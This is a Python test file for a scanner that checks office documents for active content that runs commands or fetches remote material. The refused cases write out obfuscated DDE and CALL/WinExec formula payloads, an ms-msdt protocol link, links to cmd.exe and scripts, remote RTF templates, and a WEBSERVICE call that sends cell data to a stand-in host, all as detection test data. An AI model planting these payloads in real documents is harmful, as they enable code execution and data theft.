"""What office files would fetch, ask or start: taken where harmless, told of, or refused."""

from __future__ import annotations

import io
from typing import TYPE_CHECKING

import pytest

from models.vocabulary import ActiveContent as Active
from tests.compound import doc, ppt, record, xls
from tests.office_files.making import Refused, Told, field, found, related, text_with, written
from tests.papers import (
    EXCEL,
    SPREADSHEET,
    Part,
    content_types,
    docx,
    odf,
    pptx,
    relations,
    xlsx,
)
from workflow.documents.archives import Archive
from workflow.documents.xml_parts import Attributes, PartListener, read

if TYPE_CHECKING:
    from pathlib import Path


def sheet(formula: str, *, element: str = "f") -> bytes:
    return xlsx(
        {"xl/worksheets/sheet1.xml": f"<worksheet><{element}>{formula}</{element}></worksheet>"}
    )


def table(formula: str) -> bytes:
    cell = f"<t:table-cell xmlns:t='urn:t' t:formula='{formula}'/>"
    return odf(SPREADSHEET, {"content.xml": f"<d>{cell}</d>"})


def connected(connection: str) -> bytes:
    return xlsx(
        {
            "xl/_rels/workbook.xml.rels": relations(("connections", "connections.xml", "Internal")),
            "xl/connections.xml": f"<x><connection id='1'>{connection}</connection></x>",
        }
    )


def slide(action: str, target: str = "") -> bytes:
    parts: dict[str, Part] = {
        "ppt/slides/slide1.xml": f"<p xmlns:a='a'><a:hlinkClick action='{action}'/></p>"
    }
    if target:
        parts["ppt/slides/_rels/slide1.xml.rels"] = relations(("hyperlink", target, "External"))
    return pptx(parts)


def with_text_within(name: str, content: Part) -> bytes:
    return docx(
        {
            f"word/{name}": content,
            "word/_rels/document.xml.rels": relations(("aFChunk", name, "Internal")),
        }
    )


def clicked(action: int) -> bytes:
    """A show in which a click does one of the things that PowerPoint numbers."""
    return ppt(b"\0\0\xf3\x0f\x10\0\0\0" + bytes(8) + bytes([action]) + bytes(7))


MAIL = (
    "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\n"
    "Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n"
    '<p>K=C3=ADnh g=E1=BB=ADi</p><img src=3D"{}">\n--x--\n'
)

TAKEN: Told = {
    **{
        f"a formula: {it}": ("a.xlsx", sheet(it), set())
        for it in (
            'A1&amp;"|"&amp;B1',
            '"WEBSERVICE(x)"',
            "SUM('Thôn 1|2'!A1:A9)",
            "SUM('Thu|Chi'!A1:A9)",
            "SUM('Call (2)'!A1:A9)+'Image (3)'!B1",
            "SUM(Bang1[Thu|Chi])+Bang1[[#This Row],[Call (2)]]",
            "SUM('[1]Biểu 2'!A1)",
            'FILTERXML("&lt;t>&lt;s>"&amp;A1&amp;"&lt;/s>&lt;/t>","//s")',
            '_xludf.DUMMYFUNCTION("IMPORTRANGE(""https://example.vn"",""A1"")")',
            "_xlfn.XLOOKUP(A1,B:B,C:C)",
            "AUTOCALL(A1)",
            'HYPERLINK("https://example.vn")',
        )
    },
    "a picture that a formula shows": (
        "a.xlsx",
        sheet('_xlfn.IMAGE("https://example.vn/a.png")'),
        {Active.FETCHED_PICTURE},
    ),
    "a formula of a table with an array": ("a.ods", table("of:=SUM({1;2|3;4})"), set()),
    "a formula of a table with a table beside": (
        "a.ods",
        table("of:=[&apos;file:///C:/so.ods&apos;#$S.A1]"),
        set(),
    ),
    "queries within the workbook": (
        "a.xlsx",
        connected(
            "<dbPr connection='Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;"
            "Location=Bang1' command='SELECT * FROM [Bang1]'/>"
        ),
        {Active.DATA_CONNECTION},
    ),
    "a text on the disk as a source": (
        "a.xlsx",
        connected("<textPr sourceFile='D:\\so lieu.csv'/>"),
        {Active.DATA_CONNECTION},
    ),
    "a connection of an older workbook": (
        "a.xls",
        xls(record(0x0876, bytes(30))),
        {Active.DATA_CONNECTION},
    ),
    "letters merged from a list on the disk": (
        "a.docx",
        related("mailMergeSource", "file:///D:\\danh sach.xlsx", part="settings"),
        {Active.DATA_CONNECTION},
    ),
    "an add-in": (
        "a.docx",
        docx(
            {
                "_rels/.rels": relations(
                    ("officeDocument", "word/document.xml", "Internal"),
                    ("webextensiontaskpanes", "word/webextensions/taskpanes.xml", "Internal"),
                )
            }
        ),
        {Active.ADD_IN},
    ),
    **{
        f"a click that leads {where}": ("a.pptx", slide(action, target), set())
        for where, action, target in (
            ("on", "ppaction://hlinkshowjump?jump=nextslide", ""),
            ("to the web", "", "https://example.vn"),
            ("to a file", "ppaction://hlinkfile", "file:///D:\\bc.docx"),
            ("to a macro that is not there", "ppaction://macro?name=x", ""),
        )
    },
    "a click that leads on, in an older show": ("a.ppt", clicked(3), set()),
    **{
        f"a link: {it}": ("a.docx", related("hyperlink", it), set())
        for it in (
            "mailto:vp@xa.vn",
            "kontum.com",
            "https://example.vn/cai-dat.exe",
            "#_Toc1",
            "Phụ lục: số 1.docx",
            "file:///C:\\a.docx",
            "tel:0912",
        )
    },
    "a link by a scheme of its own": (
        "a.docx",
        related("hyperlink", "ms-msdt:/id PCWDiagnostic"),
        {Active.OPENS_ADDRESS},
    ),
    "a link of a field": ("a.docx", docx(written(field(' HYPERLINK "bao cao.docx" '))), set()),
    "a page within a text": (
        "a.docx",
        with_text_within("a.html", "<p style='color:red'>Kính gửi</p><a href='https://x.vn'>x</a>"),
        set(),
    ),
    "a page with a picture of the web": (
        "a.docx",
        with_text_within("a.html", "<img src=https://example.vn/a.png>"),
        {Active.FETCHED_PICTURE},
    ),
    "a mail within a text": ("a.docx", with_text_within("a.mht", MAIL.format("cid:a")), set()),
    "a mail with a picture of the web": (
        "a.docx",
        with_text_within("a.mht", MAIL.format("https://example.vn/a.png")),
        {Active.FETCHED_PICTURE},
    ),
    "an old text within a text": ("a.docx", with_text_within("a.rtf", "{\\rtf1 x}"), set()),
    "a text within a text": ("a.docx", with_text_within("a.docx", docx()), set()),
    "a template of one's own in RTF": (
        "a.rtf",
        b"{\\rtf1{\\*\\template C:\\\\Mau\\\\a.dot}}",
        set(),
    ),
}

REFUSED: Refused = {
    **{
        f"a formula that runs: {it}": ("a.xlsx", sheet(it), "runs_commands")
        for it in (
            "cmd|'/c calc'!A0",
            "'cmd'|'/c calc'!A0",
            "MSEXCEL|'\\..\\cmd.exe /c calc'!_x0",
            'RTD("x.y",,"a")',
            "CA<!-- -->LL(1)",
            "&#82;TD(1)",
            "R<![CDATA[T]]>D(1)",
            '_xll.x(CALL("Kernel32","WinExec","JC","calc"))',
        )
    },
    "a formula that runs, in another coding": (
        "a.xlsx",
        xlsx({"xl/worksheets/sheet1.xml": "<w><f>RTD(1)</f></w>".encode("utf-16")}),
        "runs_commands",
    ),
    "a formula that runs, far behind": (
        "a.xlsx",
        sheet("1</f>" + "<v>1</v>" * 30_000 + "<f>RTD(1)"),
        "runs_commands",
    ),
    "a formula that runs, across two pieces": (
        "a.xlsx",
        sheet("1</f><v>" + "1" * (65536 - 37) + "</v><f>RTD(1)"),
        "runs_commands",
    ),
    "a formula that runs, under a name": (
        "a.xlsx",
        xlsx(
            {"xl/workbook.xml": "<workbook><definedName name='a'>RTD(1)</definedName></workbook>"}
        ),
        "runs_commands",
    ),
    "a formula that runs, in a check": (
        "a.xlsx",
        sheet("RTD(1)", element="formula1"),
        "runs_commands",
    ),
    "a formula that runs, in a part of another name": (
        "a.xlsx",
        xlsx(
            {
                "so/lieu.dat": "<w><f>RTD(1)</f></w>",
                "[Content_Types].xml": content_types(
                    "/xl/workbook.xml", f"{EXCEL}.main+xml"
                ).replace(
                    "</Types>",
                    "<Override PartName='/so/lieu.dat' ContentType='"
                    + EXCEL.replace("sheet", "worksheet")
                    + "+xml'/></Types>",
                ),
            }
        ),
        "runs_commands",
    ),
    "a formula that asks the web": (
        "a.xlsx",
        sheet('_xlfn.WEBSERVICE("https://example.vn?"&amp;A1)'),
        "fetches_content",
    ),
    "a formula with a book of a share": (
        "a.xlsx",
        sheet("'\\\\mayld\\chung\\[a.xlsx]S'!A1"),
        "fetches_content",
    ),
    "a formula of a table that runs": (
        "a.ods",
        table("of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"),
        "runs_commands",
    ),
    "a formula of a table that asks the web": (
        "a.ods",
        table("of:=COM.MICROSOFT.WEBSERVICE(&quot;https://x.vn&quot;)"),
        "fetches_content",
    ),
    "a formula of an older workbook that asks the web": (
        "a.xls",
        xls(record(0x0018, bytes(15) + b"_xlfn.WEBSERVICE")),
        "fetches_content",
    ),
    "a page of the web as a source": (
        "a.xlsx",
        connected("<webPr url='https://example.vn/gia'/>"),
        "fetches_content",
    ),
    "a database on a share": (
        "a.xlsx",
        connected("<dbPr connection='Provider=x;Data Source=\\\\mayld\\chung\\a.mdb'/>"),
        "fetches_content",
    ),
    "letters merged from a list on a share": (
        "a.docx",
        related("mailMergeSource", "file:///\\\\mayld\\a.xlsx", part="settings"),
        "fetches_content",
    ),
    "a click that starts a program": ("a.pptx", slide("ppaction://program"), "runs_commands"),
    "a click in a sheet that starts a program": (
        "a.xlsx",
        xlsx({"xl/drawings/drawing1.xml": "<x><a action='ppaction://Program'/></x>"}),
        "runs_commands",
    ),
    "a click that starts a program, in an older show": ("a.ppt", clicked(2), "runs_commands"),
    **{
        f"a link to a program: {it}": ("a.docx", related("hyperlink", it), "runs_commands")
        for it in (
            "file:///C:\\Windows\\System32\\cmd.exe",
            "cmd.exe",
            "..\\a.hta",
            "file:///\\\\mayld\\a.vbs",
            "file:///C:/a.LNK#x",
            "a%2Eexe",
            "\\\\mayld@SSL\\a.js ",
        )
    },
    "a link of a field to a program": (
        "a.docx",
        docx(written(field(' HYPERLINK "C:\\\\\\\\Windows\\\\\\\\cmd.exe" '))),
        "runs_commands",
    ),
    "a link of an older text to a program": (
        "a.doc",
        doc('\x13 HYPERLINK "C:\\\\a.exe" \x14 x\x15'),
        "runs_commands",
    ),
    "a link of a text to a program": (
        "a.odt",
        text_with("<o:a x:href='file:///C:/Windows/cmd.exe'/>"),
        "runs_commands",
    ),
    "a page with a frame of the web": (
        "a.docx",
        with_text_within("a.html", "<iframe src='https://example.vn'></iframe>"),
        "fetches_content",
    ),
    "a page with a picture of a share": (
        "a.docx",
        with_text_within("a.html", "<p style='background:url(//mayld/a.png)'>"),
        "fetches_content",
    ),
    "a mail with a picture of a share": (
        "a.docx",
        with_text_within("a.mht", MAIL.format("file://mayld/a.png")),
        "fetches_content",
    ),
    "an old text within a text that runs": (
        "a.docx",
        with_text_within("a.rtf", "{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd x}}}"),
        "runs_commands",
    ),
    "a text within a text that runs": (
        "a.docx",
        with_text_within("a.docx", docx(written(field("DDEAUTO a b")))),
        "runs_commands",
    ),
    **{
        f"RTF that updates itself: {it!r}": (
            "a.rtf",
            b"{\\rtf1{\\object" + it + b"}}",
            "refreshes_objects",
        )
        for it in (b"\\objupdate1", b"\\objautlink0 x", b"\\objupdate\\x")
    },
    **{
        f"RTF with a template elsewhere: {it!r}": (
            "a.rtf",
            b"{\\rtf1" + it + b"}",
            "template_elsewhere",
        )
        for it in (
            b"{\\*\r\n\\template http://example.vn/a.dotm}",
            b"{\\template http://example.vn/a.dotm}",
            b"{\\*\\template1 http://example.vn/a.dotm}",
            b"{\\*\\template \\u104?\\u116?\\u116?\\u112?://example.vn/a.dotm}",
            b"{\\*\\template \\u-65432?ttp://example.vn/a.dotm}",
        )
    },
}


@pytest.mark.parametrize("case", TAKEN)
def test_what_is_harmless_is_taken_and_what_is_active_told(tmp_path: Path, case: str) -> None:
    name, content, told = TAKEN[case]
    assert found(tmp_path, name, content) == told


@pytest.mark.parametrize("case", REFUSED)
def test_what_starts_or_fetches_something_is_refused(tmp_path: Path, case: str) -> None:
    name, content, code = REFUSED[case]
    assert found(tmp_path, name, content) == code


class Heard(PartListener):
    """What is told of a table in which a link matters."""

    heeded = frozenset({"href"})

    def __init__(self) -> None:
        super().__init__()
        self.told: list[tuple[str, Attributes]] = []

    def begin(self, tag: str, attributes: Attributes) -> None:
        self.told.append((tag, attributes))

    def text(self, written: str) -> None:
        self.told.append((written, {}))


class HeardByWords(Heard):
    """The same where no other server matters."""

    words = (b"example.vn",)


def heard(content: str, listener: Heard) -> list[tuple[str, Attributes]]:
    whole = odf(SPREADSHEET, {"content.xml": content})
    read(Archive(io.BytesIO(whole), whole), "content.xml", listener)
    return listener.told


def test_of_a_table_of_many_cells_only_what_matters_is_told() -> None:
    cells = "<t:c t:value='1'><t:p>1</t:p></t:c>" * 20_000
    link = "<t:a x:href='https://example.vn'>liên kết</t:a>"
    table_of_both = f"<d xmlns:t='t' xmlns:x='x'>{cells}{link}{cells}</d>"
    assert heard(table_of_both, Heard()) == [
        ("a", {"href": "https://example.vn"}),
        ("liên kết", {}),
    ]


@pytest.mark.parametrize(
    ("before", "target", "is_heard"),
    [
        ("", "https://khac.vn", False),
        ("", "https://EXAMPLE.vn", True),
        ("", "https://&#101;xample.vn", True),
        ("<?xml version='1.0' encoding='UTF-8' standalone='yes'?>", "https://khac.vn", False),
        ("<?xml version='1.0' encoding='cp1252'?>", "https://khac.vn", True),
    ],
)
def test_a_part_is_heard_when_words_that_matter_may_be_in_it(
    before: str,
    target: str,
    is_heard: bool,  # noqa: FBT001 - a case
) -> None:
    content = f"{before}<d xmlns:x='x' x:href='{target}'/>"
    assert bool(heard(content, HeardByWords())) is is_heard
